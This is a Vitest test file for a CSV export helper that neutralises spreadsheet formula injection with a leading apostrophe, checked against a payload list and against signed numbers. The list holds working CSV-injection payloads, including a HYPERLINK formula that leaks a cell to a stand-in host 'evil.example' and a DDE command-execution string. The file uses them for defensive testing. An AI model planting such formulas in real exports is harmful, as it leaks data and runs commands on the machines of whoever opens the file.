import { describe, expect, it } from 'vitest';
import { csvField, csvLine, isFormulaLike } from './csv.ts';

// The payloads of issue 37's probe, and the full-width forms a Japanese IME types.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1+2',
  '＠SUM(1,1)',
  '-',
];

describe('csvField (one CSV rule, server and browser)', () => {
  it('quotes commas, quotes and line breaks, and leaves plain values alone', () => {
    expect(csvField('Elm St, "North"')).toBe('"Elm St, ""North"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('Main St')).toBe('Main St');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(true)).toBe('true');
  });

  it.each(FORMULAS)('defuses %j with a leading apostrophe', (text) => {
    expect(isFormulaLike(text)).toBe(true);
    const field = csvField(text);
    const unquoted = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
    expect(unquoted).toBe(`'${text}`);
  });

  it('keeps signed numbers, written as numbers or as text, figures a spreadsheet adds up', () => {
    for (const n of ['-1.5', '+3', '-0.25', '1e-3', '-4.5%', '.5', '-12']) {
      expect(isFormulaLike(n), n).toBe(false);
      expect(csvField(n)).toBe(n);
    }
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField(-1e-7)).toBe('-1e-7');
  });

  it('leaves a formula sign inside the text alone: only the first character is read as one', () => {
    expect(csvField('A=B')).toBe('A=B');
    expect(csvField('WM-006494')).toBe('WM-006494');
  });

  it('ends records with CRLF', () => {
    expect(csvLine(['a', 1, null, '=1'])).toBe("a,1,,'=1\r\n");
  });
});
